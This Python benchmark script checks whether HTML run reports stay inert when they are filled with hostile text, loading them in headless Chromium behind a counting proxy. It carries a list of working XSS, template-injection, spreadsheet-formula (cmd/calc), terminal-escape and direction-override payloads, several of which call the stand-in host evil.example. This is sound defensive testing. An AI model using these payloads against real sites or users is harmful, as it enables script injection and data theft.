"""Does a browser run, load or hide anything when it opens reports full of hostile text?

A run folder is made whose events and final report hold every text of `PAYLOADS` wherever text of a corpus, a model or
an error can stand. Its status report and its comparison report are opened in a headless Chromium, as they are and once
more without their Content-Security-Policy, so that the escaping is judged by itself. A script that ran would have
marked the page; whatever the page loads goes through a proxy that counts; the plots must have a size. A page with the
same texts unescaped shows that the judge would have found it.

    python -m benchmarks.reliability.hostile_pages [--browser PATH]

The program ends with 1 if anything ran or was loaded, or a plot is missing.
"""

from __future__ import annotations

import html
import json
import re
import shutil
import subprocess
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from benchmarks import common, evidence
from benchmarks.common import BenchmarkError
from benchmarks.reliability.rotations import idle_run
from cvm_translator.runs.events import EventWriter

NAME = "hostile_pages"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
MARK = "pwned"
PAYLOADS = [
    f"<script>{MARK}()</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"</title></style></textarea></script><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()><animate onbegin={MARK}() attributeName=x dur=1s>",
    f'"><svg onload="{MARK}()">',
    f"' onmouseover='{MARK}()' x='",
    f'" autofocus onfocus="{MARK}()',
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<a href='javascript:{MARK}()'>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'><base href=//evil.example>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css><style>@import '//evil.example'</style>",
    f"<form action=//evil.example><input name={MARK}><button formaction=javascript:{MARK}()>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={MARK}()>",
    f"<!--><img src=x onerror={MARK}()>-->",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;script>",
    "{{ 7 * 191 }} {% include '/etc/passwd' %} ${7*191}",
    f"[click](javascript:{MARK}()) [x]: http://evil.example",
    f"![x](http://evil.example/{MARK}.png) <http://evil.example>",
    f"](http://evil.example) `code` **{MARK}** ~~x~~ | a | b |",
    f"\n# {MARK}\n\n- {MARK}\n\n```\n{MARK}",
    f"\n<details open ontoggle={MARK}()>\n",
    f"\x1b[2J\x1b[H\x1b]0;{MARK}\x07\x1b[31m",
    f"\x1b]8;;http://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\ \x9b31m \x90q{MARK}\x9c",
    f"\r\x08\x7f\x00{MARK}\x0b\x0c",
    f"\u202e{MARK}\u2066 \u200f\u061c \u2028 \u2029 \ufeff \u200b \U000e0041",
    f"[bold red]{MARK}[/bold red] [link=http://evil.example]x[/link] :smile:",
    f'=HYPERLINK("http://evil.example","{MARK}") +cmd|\' /C calc\'!A0 @SUM(1) -2',
    f"<!channel> @everyone <http://evil.example|{MARK}>",
    f"\ud800 {MARK} \udfff",
    "A" * 5000,
]
"""Scripts, ways out of attributes and elements, templates, Markdown, terminal sequences, direction overrides, cells."""


RUNS = "document.documentElement.setAttribute('data-ran','1')"
"""What `pwned()` stands for in a browser."""
CSP = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
PROBE = (
    "<script>document.documentElement.setAttribute('data-plots',"
    "[...document.images].filter(i => i.naturalWidth > 99).length)</script>"
)


def write_hostile_run(root: Path, payloads: list[str]) -> None:
    """A run folder, with curves, in which the payloads stand wherever text can."""
    with idle_run(root, num_steps=2000):
        pass
    with EventWriter(root / "logs" / "events.jsonl") as events:
        for number, text in enumerate(payloads, start=1):
            events.write("warning", step=1, code=text, message=text)
            recipe: dict[str, Any] = {"rollback_number": number, "learning_rate_factor": 0.5, "data_stream": number}
            events.write("rollback", step=2000, stage="distil", reason=text, from_step=2000, to_step=1999, **recipe)
            events.write("verdict", step=2000, stage="distil", verdict=text, action=text, reason=text, best_step=1000)
        scores = {"bleu": 30.0} | dict.fromkeys(payloads, 1.0)
        events.write("validation", step=1900, stage="distil", scores=scores, teacher_scores=scores, quality_score=0.9,
                     retentions=scores, probes=scores)  # fmt: skip
        events.write("failed", message=" ".join(payloads))
    samples = [dict.fromkeys(("source", "reference", "teacher", "student"), text) for text in payloads]
    final = {"gate": {"passed": False, "failures": payloads, "thresholds": {}}, "samples": samples, "worst": samples}
    (root / "reports").mkdir()
    (root / "reports" / "final_report.json").write_text(json.dumps(final))
    (root / "monitor").mkdir()
    text = "".join(f"t CRITICAL x/y: {payload}\n" for payload in payloads)
    (root / "monitor" / "alerts.log").write_text(text, encoding="utf-8", errors="surrogatepass")


class CountingProxy:
    """Serves one page, answers every request to another host with nothing, and counts those."""

    def __init__(self) -> None:
        self.page = b""
        self.requests: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                is_page = self.path == "/page"
                if not is_page:
                    owner.requests.append(self.path)
                self.send_response(200 if is_page else 204)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(owner.page if is_page else b"")

            do_POST = do_CONNECT = do_GET

            def log_message(self, *arguments: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def take(self) -> list[str]:
        """The requests to hosts of the payloads since the last call; a browser has errands of its own."""
        found, self.requests = [path for path in self.requests if "evil.example" in path], []
        return found

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def open_page(browser: str, page: Path, proxy: CountingProxy) -> dict[str, Any]:
    """What a browser made of a page."""
    with tempfile.TemporaryDirectory() as profile:
        command = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--mute-audio",
                   f"--user-data-dir={profile}", f"--proxy-server={proxy.address}", "--virtual-time-budget=5000",
                   "--dump-dom", f"http://{proxy.address}/page"]  # fmt: skip
        proxy.page = page.read_bytes()
        done = subprocess.run(command, capture_output=True, timeout=600, check=True)
    document = done.stdout.decode("utf-8", "replace")
    tag = re.search(r"<html[^>]*>", document)
    plots = re.search(r'data-plots="(\d+)"', tag[0]) if tag else None
    return {
        "ran": tag is not None and "data-ran" in tag[0],
        "loaded": proxy.take(),
        "plots": int(plots[1]) if plots else None,
        "is_shown": MARK in document or RUNS[:20] in document,
    }


def measure(browser: str, folder: Path) -> dict[str, dict[str, Any]]:
    from cvm_translator.observe.report import write_report
    from cvm_translator.observe.status_report import write_status_report

    payloads = [text.replace(f"{MARK}()", RUNS) for text in PAYLOADS]
    root = folder / "run"
    write_hostile_run(root, payloads)
    write_status_report(root)
    write_report(root)
    pages = {
        "status report": root / "monitor/status_report.html",
        "comparison": root / "reports/comparison_report.html",
    }
    proxy, results = CountingProxy(), {}
    for name, page in pages.items():
        results[name] = open_page(browser, page, proxy)
        text, num_policies = CSP.subn("", page.read_text(encoding="utf-8"))
        assert num_policies == 1, name
        bare = page.with_name("bare.html")
        bare.write_text(text.replace("</body>", f"{PROBE}</body>"), encoding="utf-8")
        results[f"{name}, without its policy"] = open_page(browser, bare, proxy)
    naked = folder / "naked.html"
    body = "".join(f"<p>{text}</p>" for text in payloads)
    naked.write_text(f"<!doctype html><html><body>{body}</body></html>", encoding="utf-8", errors="surrogatepass")
    results["the same texts unescaped (control)"] = open_page(browser, naked, proxy)
    proxy.close()
    return results


def format_results(data: dict[str, Any]) -> str:
    rows = [
        f"| {name} | {'yes' if found['ran'] else 'no'} | {len(found['loaded'])} |"
        f" {'' if found['plots'] is None else found['plots']} |"
        for name, found in data["pages"].items()
    ]
    return "\n".join(
        [
            "# Reports full of hostile text in a browser",
            "",
            f"{data['num_payloads']} payloads in every place for text; {html.escape(data['browser'])}.",
            "",
            "| page | a script ran | requests | plots shown |",
            "| --- | --- | --- | --- |",
            *rows,
        ]
    )


def is_harmless(pages: dict[str, dict[str, Any]]) -> bool:
    *reports, control = pages.values()
    is_quiet = all(not found["ran"] and not found["loaded"] and found["is_shown"] for found in reports)
    has_plots = all(found["plots"] is None or found["plots"] > 0 for found in reports)
    return is_quiet and has_plots and control["ran"] and bool(control["loaded"])


def main() -> int:
    parser = common.build_plain_parser("Open reports full of hostile text in a headless browser.")
    found = next((path for name in BROWSERS if (path := shutil.which(name))), None)
    parser.add_argument("--browser", default=found, metavar="PATH", help="a Chromium (default: the one installed)")
    options = parser.parse_args()
    if options.browser is None:
        raise BenchmarkError("no browser found: install chromium, or name one with --browser PATH")
    version = subprocess.run([options.browser, "--version"], capture_output=True, text=True, check=True).stdout
    with tempfile.TemporaryDirectory() as folder:
        pages = measure(options.browser, Path(folder))
    data = {"browser": version.strip(), "num_payloads": len(PAYLOADS), "pages": pages}
    text = format_results(data)
    evidence.write_results(options.results, NAME, data, text)
    print(text)
    return 0 if is_harmless(pages) else 1


if __name__ == "__main__":
    common.run_main(main)
